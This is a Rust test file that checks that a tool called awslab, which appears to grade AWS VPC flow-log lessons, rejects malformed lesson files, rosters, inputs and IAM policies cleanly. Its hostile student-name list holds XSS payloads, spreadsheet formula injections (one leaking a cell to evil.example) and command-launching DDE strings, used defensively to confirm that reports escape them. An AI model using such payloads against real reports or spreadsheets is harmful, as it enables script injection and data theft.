//! Hostile input: lesson files, assets, rosters, `--set` values and `explain` records that are
//! empty, huge, binary, invalid UTF-8, deeply nested, of the wrong type or with unknown fields.
//! Each is a clear error naming the place, exit 2, in bounded time, never a panic. Policy
//! documents in the account that are odd but valid IAM grammar, or make no sense, are judged.

use crate::common::student::*;
use crate::common::*;
use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt;
use std::path::Path;
use std::time::Duration;

const BOUND: Duration = Duration::from_secs(60);
const LESSON: &str = "vpc-flow-logs";

fn shipped(path: &str) -> String {
    let file = format!("{}/{path}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{file}: {e}"))
}

/// 10 MB of `unit` repeated.
fn huge(unit: &str) -> Vec<u8> {
    unit.as_bytes()
        .iter()
        .copied()
        .cycle()
        .take(10 * 1024 * 1024)
        .collect()
}

/// Bytes that are no text at all: NULs, control characters, invalid UTF-8.
fn binary() -> Vec<u8> {
    (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect()
}

fn invalid_utf8(text: &str) -> Vec<u8> {
    let mut bytes = text.as_bytes().to_vec();
    let at = bytes.len() / 2;
    bytes.splice(at..at, [0xff, 0xfe, 0xc3]);
    bytes
}

/// The failure every hostile input must produce: exit 2, no panic, a message naming `place`.
#[track_caller]
fn assert_clear_error(what: &str, run: &Run, place: &str) {
    let stderr = run.stderr();
    assert!(
        !stderr.contains("panicked"),
        "{what}: awslab panicked:\n{stderr}"
    );
    assert_eq!(
        run.code(),
        2,
        "{what}: exit {}\nstdout:\n{}\nstderr:\n{stderr}",
        run.code(),
        run.stdout()
    );
    // `lesson check` reports its problems on stdout, everything else on stderr.
    let all = format!("{}{stderr}", run.stdout());
    assert!(
        all.contains(place),
        "{what}: the error must name {place}:\n{all}"
    );
    assert!(
        all.len() < 20_000,
        "{what}: the error should be short, not the input echoed back ({} bytes)",
        all.len()
    );
}

/// awslab pointed at moto with credentials nobody will use: any AWS call would be a detour.
fn awslab() -> Awslab {
    let mut cmd = Awslab::bare();
    cmd.env("AWS_ACCESS_KEY_ID", "testing")
        .env("AWS_SECRET_ACCESS_KEY", "testing")
        .env("AWS_ENDPOINT_URL", &moto().endpoint);
    cmd
}

/// A lessons directory with the shipped lesson, its lesson.toml or an asset replaced.
struct Lessons {
    dir: TempDir,
}

impl Lessons {
    fn with(file: &str, contents: &[u8]) -> Lessons {
        let dir = TempDir::new();
        let lesson = dir.0.join(LESSON);
        std::fs::create_dir_all(&lesson).expect("lesson dir");
        std::fs::write(
            lesson.join("lesson.toml"),
            shipped(&format!("lessons/{LESSON}/lesson.toml")),
        )
        .expect("lesson.toml");
        for asset in ["flow-policy.json", "trust-policy.json"] {
            std::fs::write(
                lesson.join(asset),
                shipped(&format!("assets/{LESSON}/{asset}")),
            )
            .expect("asset");
        }
        std::fs::write(lesson.join(file), contents).expect("hostile file");
        Lessons { dir }
    }

    fn path(&self) -> &Path {
        &self.dir.0
    }
}

fn lesson_cases() -> Vec<(&'static str, Vec<u8>)> {
    let good = shipped(&format!("lessons/{LESSON}/lesson.toml"));
    let mut nested_toml = b"x = ".to_vec();
    nested_toml.extend(std::iter::repeat_n(b'[', 100_000));
    nested_toml.extend(std::iter::repeat_n(b']', 100_000));
    let mut nested_table = b"x = ".to_vec();
    nested_table.extend(std::iter::repeat_n(b"{a=".as_slice(), 100_000).flatten());
    nested_table.extend(std::iter::repeat_n(b'}', 100_000));
    vec![
        ("empty", Vec::new()),
        ("huge", huge("# a comment that never ends\n")),
        ("huge single line", huge("x")),
        ("binary", binary()),
        ("invalid UTF-8", invalid_utf8(&good)),
        ("nested arrays", nested_toml),
        ("nested inline tables", nested_table),
        (
            "wrong type",
            good.replace("schema = 1", "schema = \"one\"").into_bytes(),
        ),
        (
            "wrong type of steps",
            format!(
                "{}\nsteps = 5\n",
                good.split("[[steps]]").next().unwrap_or("")
            )
            .into_bytes(),
        ),
        (
            "unknown field",
            good.replacen("schema = 1", "schema = 1\nfavourite_colour = \"blue\"", 1)
                .into_bytes(),
        ),
        (
            "unknown step field",
            good.replacen(
                "kind = \"iam-policy\"",
                "kind = \"iam-policy\"\nsecret = 1",
                1,
            )
            .into_bytes(),
        ),
        (
            "negative points",
            good.replacen("points = 15", "points = -15", 1).into_bytes(),
        ),
        (
            "points overflow",
            good.replacen("points = 15", "points = 99999999999999999999", 1)
                .into_bytes(),
        ),
    ]
}

#[test]
fn hostile_lesson_files_are_clear_errors() {
    for (what, contents) in lesson_cases() {
        let lessons = Lessons::with("lesson.toml", &contents);
        for args in [
            &["verify"][..],
            &["lessons"],
            &["lesson", "check", "--static"],
        ] {
            let run = awslab()
                .args(["--lessons"])
                .args([lessons.path()])
                .args(args)
                .run_within(BOUND);
            assert_clear_error(&format!("{what} ({args:?})"), &run, "lesson.toml");
        }
    }
}

#[test]
fn hostile_assets_are_clear_errors() {
    let mut nested = "[".repeat(100_000);
    nested.push_str(&"]".repeat(100_000));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("empty", Vec::new()),
        ("huge", huge("{\"Version\": \"2012-10-17\"} ")),
        ("binary", binary()),
        (
            "invalid UTF-8",
            invalid_utf8(&shipped("assets/vpc-flow-logs/flow-policy.json")),
        ),
        ("nested", nested.into_bytes()),
        ("not JSON", b"Version: 2012-10-17\n".to_vec()),
    ];
    for (what, contents) in cases {
        let lessons = Lessons::with("flow-policy.json", &contents);
        let run = awslab()
            .args(["--lessons"])
            .args([lessons.path()])
            .args(["verify"])
            .run_within(BOUND);
        assert_clear_error(what, &run, "flow-policy.json");
    }
}

#[test]
fn a_lessons_directory_that_is_not_one_is_a_clear_error() {
    let dir = TempDir::new();
    let file = dir.0.join("file");
    std::fs::write(&file, "x").expect("file");
    for (what, path) in [
        ("missing", dir.0.join("nope")),
        ("a file", file.clone()),
        ("empty", dir.0.clone()),
    ] {
        let run = awslab()
            .args(["--lessons"])
            .args([&path])
            .args(["verify"])
            .run_within(BOUND);
        assert_eq!(run.code(), 2, "{what}: {}", run.stderr());
        assert!(
            !run.stderr().contains("panicked"),
            "{what}: {}",
            run.stderr()
        );
    }
}

fn grade(roster: &Path) -> Run {
    awslab()
        .args(["grade", "--format", "json", "--roster"])
        .args([roster])
        .run_within(BOUND)
}

#[test]
fn hostile_rosters_are_clear_errors() {
    let dir = TempDir::new();
    let mut nested = String::from("student,account_id\n");
    nested.push_str(&"\"".repeat(100_000));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("empty", Vec::new()),
        ("header only", b"student,account_id\n".to_vec()),
        ("huge", huge("student,account_id\n")),
        ("huge field", {
            let mut v = b"student,account_id\n".to_vec();
            v.extend(huge("a"));
            v
        }),
        ("binary", binary()),
        (
            "invalid UTF-8",
            invalid_utf8("student,account_id\nkim,123456789012\n"),
        ),
        ("unbalanced quotes", nested.into_bytes()),
        (
            "no way in",
            b"student,region\nkim,ap-northeast-2\n".to_vec(),
        ),
        ("wrong type", b"student,account_id\nkim,twelve\n".to_vec()),
        (
            "JSON",
            br#"{"student": "kim", "account_id": "123456789012"}"#.to_vec(),
        ),
    ];
    for (what, contents) in cases {
        let roster = dir.0.join(format!("{}.csv", what.replace(' ', "-")));
        std::fs::write(&roster, contents).expect("roster");
        let run = grade(&roster);
        assert_clear_error(what, &run, &roster.file_name().unwrap().to_string_lossy());
    }
    let missing = dir.0.join("missing.csv");
    assert_clear_error("missing", &grade(&missing), "missing.csv");
    assert_clear_error("a directory", &grade(&dir.0), &dir.0.to_string_lossy());
}

#[test]
fn hostile_set_values_are_clear_errors() {
    // Far over the 1024-character limit (clap quotes the argument back, so not megabytes).
    let long = "v".repeat(5_000);
    let cases: Vec<(&str, OsString, &str)> = vec![
        ("no equals sign", "vpc".into(), "vpc"),
        ("empty key", "=MyVpc22".into(), "--set"),
        ("unknown key", "favourite=blue".into(), "favourite"),
        ("empty value", "vpc=".into(), "vpc"),
        ("huge value", format!("vpc={long}").into(), "vpc"),
        ("control characters", "vpc=My\u{1}Vpc\u{7}".into(), "vpc"),
        ("newline", "role=my\nrole".into(), "role"),
        (
            "invalid UTF-8",
            OsString::from_vec(b"vpc=My\xffVpc".to_vec()),
            "invalid UTF-8",
        ),
    ];
    for (what, value, place) in cases {
        let run = awslab()
            .args([OsString::from("--set"), value])
            .args(["verify", "--format", "json"])
            .run_within(BOUND);
        assert_clear_error(what, &run, place);
    }
}

#[test]
fn hostile_explain_records_are_clear_errors() {
    let long = "9".repeat(120_000);
    let cases: Vec<(&str, Vec<OsString>)> = vec![
        ("empty", vec!["".into()]),
        ("blank", vec!["   ".into()]),
        ("huge", vec![long.clone().into()]),
        (
            "huge field",
            vec![format!("2 123456789010 eni-0a1b2c3d 203.0.113.5 10.0.1.4 51234 80 6 5 {long} 1700000000 1700000060 ACCEPT OK").into()],
        ),
        ("binary", vec!["\u{1}\u{2}\u{3} \u{7f}\u{1b}[31m".into()]),
        (
            "invalid UTF-8",
            vec![OsString::from_vec(b"2 123456789010 eni-\xff 1.2.3.4".to_vec())],
        ),
        (
            "wrong types",
            vec!["two account eni-0a1b2c3d srcaddr dstaddr port port tcp many lots start end MAYBE OK".into()],
        ),
        (
            "too many fields",
            vec!["2 123456789010 eni-0a1b2c3d 203.0.113.5 10.0.1.4 51234 80 6 5 420 1700000000 1700000060 ACCEPT OK extra more".into()],
        ),
        ("too few fields", vec!["2 123456789010".into()]),
        (
            "JSON",
            vec![r#"{"version": 2, "action": "ACCEPT"}"#.into()],
        ),
    ];
    for (what, record) in cases {
        let mut cmd = awslab();
        cmd.args(["explain", "--format", "json", "--"])
            .args(&record);
        let run = cmd.run_within(BOUND);
        let place = if what == "invalid UTF-8" {
            "invalid UTF-8"
        } else {
            "record"
        };
        assert_clear_error(what, &run, place);
    }
    let formats: Vec<(&str, String)> = vec![
        ("unknown field", "${version} ${no-such-field}".into()),
        ("empty", String::new()),
        ("unclosed", "${version} ${srcaddr".into()),
        ("huge", "${version} ".repeat(10_000)),
    ];
    for (what, format) in formats {
        let run = awslab()
            .args(["explain", "--log-format", &format, "--", "2 3 4"])
            .run_within(BOUND);
        assert_clear_error(&format!("log format {what}"), &run, "format");
    }
}

// ---------------------------------------------------------------------------------------------
// Policy documents in the account: odd grammar is judged, not crashed on.

/// The lab solved except for the policy document, which is `document`.
async fn solved_with_policy(document: &str) -> (Lab, serde_json::Value, Run) {
    let lab = Lab::new().await;
    lab.create_policy(POLICY, document).await;
    lab.create_role(ROLE, &trust_policy()).await;
    lab.attach(ROLE, POLICY).await;
    lab.create_log_group(GROUP).await;
    lab.create_flow_log(FlowLogSpec::default()).await;
    lab.deliver_access_record("ACCEPT").await;
    let run = lab
        .account
        .awslab()
        .args(["verify", "--format", "json"])
        .run_within(BOUND);
    assert!(
        !run.stderr().contains("panicked"),
        "panicked on {document}:\n{}",
        run.stderr()
    );
    let v = run.json();
    (lab, v, run)
}

/// The lab solved except for the trust policy, which is `document`.
async fn solved_with_trust(document: &str) -> (serde_json::Value, Run) {
    let lab = Lab::new().await;
    lab.create_policy(POLICY, &flow_policy()).await;
    lab.create_role(ROLE, &document.replace("ACCOUNT", &lab.account.id))
        .await;
    lab.attach(ROLE, POLICY).await;
    lab.create_log_group(GROUP).await;
    lab.create_flow_log(FlowLogSpec::default()).await;
    lab.deliver_access_record("ACCEPT").await;
    let run = lab
        .account
        .awslab()
        .args(["verify", "--format", "json"])
        .run_within(BOUND);
    assert!(
        !run.stderr().contains("panicked"),
        "panicked on {document}:\n{}",
        run.stderr()
    );
    let v = run.json();
    (v, run)
}

const ACTIONS: &str = r#"["logs:CreateLogGroup", "logs:CreateLogStream", "logs:PutLogEvents", "logs:DescribeLogGroups", "logs:DescribeLogStreams"]"#;

#[tokio::test(flavor = "multi_thread")]
async fn unusual_but_valid_permission_policies_are_judged() {
    // (document, the policy step's status)
    let conditions = format!(
        r#"{{"Version": "2012-10-17", "Statement": [{{"Effect": "Allow", "Action": {ACTIONS}, "Resource": "*",
            "Condition": {{"NumericLessThan": {{"aws:MultiFactorAuthAge": "3600"}},
                           "DateGreaterThan": {{"aws:CurrentTime": "2020-01-01T00:00:00Z"}},
                           "IpAddress": {{"aws:SourceIp": ["10.0.0.0/8", "2001:db8::/32"]}}}}}}]}}"#
    );
    let many: Vec<String> = (0..100)
        .map(|i| {
            let action = [
                "logs:CreateLogGroup",
                "logs:CreateLogStream",
                "logs:PutLogEvents",
                "logs:DescribeLogGroups",
                "logs:DescribeLogStreams",
            ][i % 5];
            format!(
                r#"{{"Sid": "S{i}", "Effect": "Allow", "Action": "{action}", "Resource": "*"}}"#
            )
        })
        .collect();
    let hundred = format!(
        r#"{{"Version": "2012-10-17", "Statement": [{}]}}"#,
        many.join(",")
    );
    // (what, document, the policy step's status, verify's exit code: the rest of the lab is solved)
    let cases: Vec<(&str, String, &str, i32)> = vec![
        (
            "Action *",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}"#.into(),
            "pass", 0,
        ),
        (
            "Resource list",
            format!(r#"{{"Version": "2012-10-17", "Statement": [{{"Effect": "Allow", "Action": {ACTIONS}, "Resource": ["*"]}}]}}"#),
            "pass", 0,
        ),
        (
            "Statement object",
            format!(r#"{{"Version": "2012-10-17", "Statement": {{"Effect": "Allow", "Action": {ACTIONS}, "Resource": "*"}}}}"#),
            "pass", 0,
        ),
        ("conditions", conditions, "fail", 1),
        ("100 statements", hundred, "pass", 0),
        (
            "NotAction",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"}]}"#.into(),
            "pass", 0,
        ),
        (
            "Deny everything",
            format!(r#"{{"Version": "2012-10-17", "Statement": [{{"Effect": "Allow", "Action": {ACTIONS}, "Resource": "*"}}, {{"Effect": "Deny", "Action": "*", "Resource": "*"}}]}}"#),
            "fail", 1,
        ),
        (
            "case and wildcards",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": ["LOGS:create*", "logs:Put?ogEvents", "logs:describe*"], "Resource": "arn:aws:logs:*:*:*"}]}"#.into(),
            "pass", 0,
        ),
    ];
    let mut wrong = Vec::new();
    for (what, document, expected, code) in cases {
        let (_lab, v, run) = solved_with_policy(&document).await;
        let status = v.step_status("policy").to_string();
        if status != expected || run.code() != code {
            wrong.push(format!(
                "{what}: policy step {status} (expected {expected}), exit {} (expected {code}): {v:#}",
                run.code()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn unusual_but_valid_trust_policies_are_judged() {
    // (what, trust policy, the trust step's status, verify's exit code: the rest of the lab is solved)
    let cases: Vec<(&str, String, &str, i32)> = vec![
        (
            "Statement object, Action list",
            r#"{"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Principal": {"Service": ["vpc-flow-logs.amazonaws.com"]}, "Action": ["sts:AssumeRole"]}}"#.into(),
            "pass", 0,
        ),
        (
            "confused-deputy conditions",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole",
                "Condition": {"StringEquals": {"aws:SourceAccount": "ACCOUNT"}, "ArnLike": {"aws:SourceArn": "arn:aws:ec2:ap-northeast-2:ACCOUNT:vpc-flow-log/*"}}}]}"#.into(),
            "pass", 0,
        ),
        (
            "NotPrincipal deny",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole"},
                {"Effect": "Deny", "NotPrincipal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole"}]}"#.into(),
            "pass", 0,
        ),
        (
            "Action *",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "*"}]}"#.into(),
            "pass", 0,
        ),
        (
            // The service is let in, and so is every AWS account: a role anyone can assume.
            "Principal *",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sts:AssumeRole"}]}"#.into(),
            "fail", 1,
        ),
        (
            "AWS principal only",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::123456789012:root"}, "Action": "sts:AssumeRole"}]}"#.into(),
            "fail", 1,
        ),
        (
            "IpAddress condition",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole", "Condition": {"IpAddress": {"aws:SourceIp": "203.0.113.0/24"}}}]}"#.into(),
            "fail", 1,
        ),
        (
            "Deny the service",
            r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole"}, {"Effect": "Deny", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:*"}]}"#.into(),
            "fail", 1,
        ),
    ];
    let mut wrong = Vec::new();
    for (what, document, expected, code) in cases {
        let (v, run) = solved_with_trust(&document).await;
        let status = v.step_status("trust").to_string();
        if status != expected || run.code() != code {
            wrong.push(format!(
                "{what}: trust step {status} (expected {expected}), exit {} (expected {code}): {v:#}",
                run.code()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The IAM answer to GetPolicyVersion for `document` (URL-encoded, as IAM sends it).
fn policy_version_answer(document: &str) -> String {
    let encoded: String = document
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    format!(
        "<GetPolicyVersionResponse xmlns=\"https://iam.amazonaws.com/doc/2010-05-08/\"><GetPolicyVersionResult><PolicyVersion><Document>{encoded}</Document><VersionId>v1</VersionId><IsDefaultVersion>true</IsDefaultVersion><CreateDate>2026-01-01T00:00:00Z</CreateDate></PolicyVersion></GetPolicyVersionResult><ResponseMetadata><RequestId>0</RequestId></ResponseMetadata></GetPolicyVersionResponse>"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_policy_documents_from_the_account_are_judged() {
    // moto validates documents as IAM does, so a fault proxy hands verify the documents no
    // emulator would store, as the default version of the lab's policy.
    use crate::common::fault_proxy::{Fault, FaultProxy, Request};
    let cases: Vec<(&str, String)> = vec![
        ("not JSON", "Version: 2012-10-17".into()),
        ("empty", String::new()),
        ("binary", String::from_utf8_lossy(&binary()).into_owned()),
        ("not an object", "[]".into()),
        ("null", "null".into()),
        ("Statement a string", r#"{"Version": "2012-10-17", "Statement": "allow everything"}"#.into()),
        ("Statement empty", r#"{"Version": "2012-10-17", "Statement": []}"#.into()),
        ("Statement missing", r#"{"Version": "2012-10-17"}"#.into()),
        ("Action a number", r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": 5, "Resource": "*"}]}"#.into()),
        ("Action list of numbers", r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": [1, null, true], "Resource": "*"}]}"#.into()),
        ("Effect odd", r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Perhaps", "Action": "logs:*", "Resource": "*"}]}"#.into()),
        ("Effect missing", r#"{"Version": "2012-10-17", "Statement": [{"Action": "logs:*", "Resource": "*"}]}"#.into()),
        ("Resource object", r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "logs:*", "Resource": {"a": 1}}]}"#.into()),
        ("Condition odd", r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "logs:*", "Resource": "*", "Condition": "yes"}]}"#.into()),
        ("deeply nested", format!(r#"{{"Version": "2012-10-17", "Statement": [{{"Effect": "Allow", "Action": "logs:*", "Resource": "*", "Condition": {}1{}}}]}}"#, "[".repeat(100_000), "]".repeat(100_000))),
    ];
    let lab = Lab::solved().await;
    for (what, document) in cases {
        let answer = policy_version_answer(&document);
        let rule = std::sync::Arc::new(move |r: &Request| {
            (r.operation == "GetPolicyVersion")
                .then(|| Fault::Answer(200, "text/xml", answer.clone()))
        });
        let proxy = FaultProxy::start(&moto().endpoint, rule);
        let run = lab
            .account
            .awslab()
            .env("AWS_ENDPOINT_URL", &proxy.endpoint)
            .args(["verify", "--format", "json"])
            .run_within(BOUND);
        assert!(
            !run.stderr().contains("panicked"),
            "{what}: panicked:\n{}",
            run.stderr()
        );
        assert!(
            proxy
                .injected()
                .iter()
                .any(|(c, _)| c == "iam:GetPolicyVersion"),
            "{what}: the document was handed out"
        );
        assert_eq!(run.code(), 1, "{what}: {}\n{}", run.stdout(), run.stderr());
        let v = run.json();
        assert_eq!(v.status(), "fail", "{what}: {v:#}");
        assert_eq!(v.step_status("policy"), "fail", "{what}: {v:#}");
        assert!(v.earned() < 100, "{what}");
    }
}

/// Student names, a profile name and a flow log's Name tag written to run something: in the
/// page, in a spreadsheet opened from grades.csv, or in a Markdown viewer.
const HOSTILE_NAMES: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\"><svg onload=alert(3)>",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[click](javascript:alert(4))",
    "![x](http://evil.example/x.png)",
    "a | b | c",
    "`code` and *stars*",
];

#[tokio::test(flavor = "multi_thread")]
async fn names_from_accounts_cannot_run_anything_in_the_reports() {
    let tag = "<script>document.title='owned'</script>";
    let lab = Lab::new().await;
    lab.create_policy(POLICY, &flow_policy()).await;
    lab.create_role(ROLE, &trust_policy()).await;
    lab.attach(ROLE, POLICY).await;
    lab.create_log_group(GROUP).await;
    lab.create_flow_log(FlowLogSpec {
        name: Some(tag),
        ..Default::default()
    })
    .await;
    let dir = TempDir::new();
    let roster = dir.0.join("roster.csv");
    let mut w = csv::Writer::from_path(&roster).expect("roster");
    w.write_record(["student", "account_id", "profile"])
        .expect("header");
    for name in HOSTILE_NAMES {
        w.write_record([*name, lab.account.id.as_str(), ""])
            .expect("row");
    }
    w.write_record(["<b>broken</b>", "", "<i>no-such-profile</i>"])
        .expect("row");
    w.flush().expect("flush");
    drop(w);
    let out = dir.0.join("out");
    let run = awslab()
        .args(["grade", "--format", "json", "--out"])
        .args([&out])
        .args(["--roster"])
        .args([&roster])
        .run_within(Duration::from_secs(150));
    assert_eq!(run.code(), 2, "one account is unreadable: {}", run.stderr());
    let json_text = std::fs::read_to_string(out.join("grades.json")).expect("grades.json");
    assert!(
        json_text.contains("document.title"),
        "the tag reached a message"
    );
    let json: serde_json::Value = serde_json::from_str(&json_text).expect("JSON");

    // grades.csv: formula cells start with ', and every name reads back whole.
    let csv_text = std::fs::read_to_string(out.join("grades.csv")).expect("grades.csv");
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.expect("row")[0].to_string())
        .collect();
    assert_eq!(cells.len(), HOSTILE_NAMES.len() + 1);
    for (cell, name) in cells.iter().zip(HOSTILE_NAMES) {
        if name.starts_with(['=', '+', '-', '@']) {
            assert_eq!(*cell, format!("'{name}"));
        } else {
            assert_eq!(cell, name);
        }
    }

    // report.html: nothing but the page's own script and SVG; the names are text.
    let html = std::fs::read_to_string(out.join("report.html")).expect("report.html");
    crate::common::page::assert_matches_grades(&html, &json);
    let names = crate::common::page::texts(&html, "#students td.name");
    assert_eq!(names[..HOSTILE_NAMES.len()], *HOSTILE_NAMES);
    let findings = crate::common::page::texts(&html, "tr.findings li").join("\n");
    assert!(
        findings.contains(tag),
        "the tag is shown as text: {findings}"
    );

    // report.md, as a Markdown viewer renders it: no element from an account, names as text.
    let md = std::fs::read_to_string(out.join("report.md")).expect("report.md");
    let rendered = crate::common::page::markdown_as_html(&md);
    let doc = scraper::Html::parse_fragment(&rendered);
    for tag in ["script", "img", "svg", "a", "b", "i", "h1 + h1"] {
        let sel = scraper::Selector::parse(tag).expect("selector");
        assert_eq!(
            doc.select(&sel).count(),
            0,
            "<{tag}> from an account in report.md:\n{md}\n{rendered}"
        );
    }
    let text: String = doc.root_element().text().collect();
    for name in [
        "<script>alert(1)</script>",
        "[click](javascript:alert(4))",
        "a | b | c",
    ] {
        assert!(text.contains(name), "{name} not shown as text:\n{md}");
    }
    assert!(text.contains("<i>no-such-profile</i>"), "{md}");
    let headings = doc
        .select(&scraper::Selector::parse("h1").expect("h1"))
        .count();
    assert_eq!(headings, 1, "only the report's own title: {rendered}");
}
